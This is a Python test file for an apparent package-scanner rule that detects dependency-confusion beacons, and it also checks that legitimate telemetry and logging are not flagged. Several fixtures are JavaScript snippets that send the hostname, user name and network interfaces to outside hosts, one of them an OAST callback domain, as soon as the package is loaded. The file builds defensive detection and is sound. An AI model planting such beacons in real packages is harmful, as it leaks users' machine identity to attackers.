"""`load-identity-beacon`: the dependency-confusion probe in a package's main file (hostname, user name or
interfaces sent to a host written in the code when the package is required), against telemetry and logging
that handle the same values legitimately."""

from __future__ import annotations

from airlock.analysis import analyze
from airlock.contents import read_tarball
from airlock.model import PackageAnalysis, Severity, Verdict
from airlock.verdict import decide
from tests.fakes.tarballs import build_package

RULE = "load-identity-beacon"
OS = "const os = require('os');\nconst https = require('https');\n"


def scan(index: str, **files: str) -> PackageAnalysis:
    tarball = build_package("crafted", "1.0.0", {"index.js": index, **files}, main="index.js")
    return analyze(read_tarball(tarball, subject="crafted@1.0.0"))


def _severity(result: PackageAnalysis) -> Severity | None:
    found = [f.severity for f in result.findings if f.rule == RULE]
    return found[0] if found else None


def test_hostname_and_user_sent_on_require_is_reviewed() -> None:
    code = OS + (
        "const info = { h: os.hostname(), u: os.userInfo().username, i: os.networkInterfaces() };\n"
        "https.request({ host: 'stats.example.com', method: 'POST' }).end(JSON.stringify(info));\n"
    )
    result = scan(code)
    assert _severity(result) is Severity.HIGH
    assert decide(result.findings) is Verdict.REVIEW
    (finding,) = [f for f in result.findings if f.rule == RULE]
    assert "os.hostname" in finding.message and "stats.example.com" in finding.message


def test_identity_sent_to_an_oast_host_on_require_blocks() -> None:
    code = OS + "https.get('https://x1.oast.fun/?h=' + os.hostname() + '&u=' + os.userInfo().username);\n"
    result = scan(code)
    assert _severity(result) is Severity.CRITICAL
    assert decide(result.findings) is Verdict.BLOCK


def test_a_relative_module_loaded_by_main_counts_as_load_time() -> None:
    beacon = OS + "https.get({ host: 'probe.example.net', path: '/?h=' + os.hostname() });\n"
    result = scan("require('./lib/ping');\nmodule.exports = {};\n", **{"lib/ping.js": beacon})
    assert _severity(result) is Severity.HIGH


def test_telemetry_sent_when_the_application_calls_it_is_not_a_beacon() -> None:
    code = OS + (
        "exports.report = (event) => https.request({ host: 'telemetry.example.com', method: 'POST' })\n"
        "  .end(JSON.stringify({ event, host: os.hostname() }));\n"
    )
    assert _severity(scan(code)) is None


def test_identity_to_a_configured_endpoint_is_a_client() -> None:
    code = OS + "https.get(process.env.METRICS_URL + '?host=' + os.hostname());\n"
    assert _severity(scan(code)) is None


def test_a_logger_that_prints_the_hostname_is_not_a_beacon() -> None:
    code = (
        "const os = require('os');\n"
        "process.stdout.write(JSON.stringify({ host: os.hostname(), msg: 'ready' }) + '\\n');\n"
    )
    result = scan(code)
    assert _severity(result) is None
    assert decide(result.findings) is Verdict.ALLOW


def test_a_dev_server_announcing_itself_on_loopback_is_not_a_beacon() -> None:
    code = OS + "https.get({ host: 'localhost', port: 9000, path: '/register?h=' + os.hostname() });\n"
    assert _severity(scan(code)) is None
